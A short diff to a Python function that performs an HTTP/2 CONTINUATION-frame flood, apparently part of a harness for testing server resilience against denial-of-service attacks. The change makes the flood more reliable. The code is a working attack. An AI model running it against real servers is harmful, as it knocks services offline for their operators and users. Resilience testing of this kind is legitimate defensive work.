@@ -176,13 +176,13 @@ def no_attack(host: str, port: int, duration: float) -> AttackResult:
 def continuation_flood(host: str, port: int, duration: float, frames: int = 60_000) -> AttackResult:
     """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames."""
     conn = Conn(host, port)
+    conn.pump(0.2)  # SETTINGS answered now: nothing may come between the block's frames
     started = time.monotonic()
     sent = 0
     if conn.send(frame(HEADERS, 0, 1, request_block(conn.encoder)[:10])):
         batch = frame(CONTINUATION, 0, 1) * 1000
         while sent < frames and time.monotonic() - started < duration and conn.send(batch):
             sent += 1000
-            conn.pump()
     conn.wait_closed(max(0.0, duration - (time.monotonic() - started)))
     result = conn.result("continuation_flood", sent, started)
     conn.close()
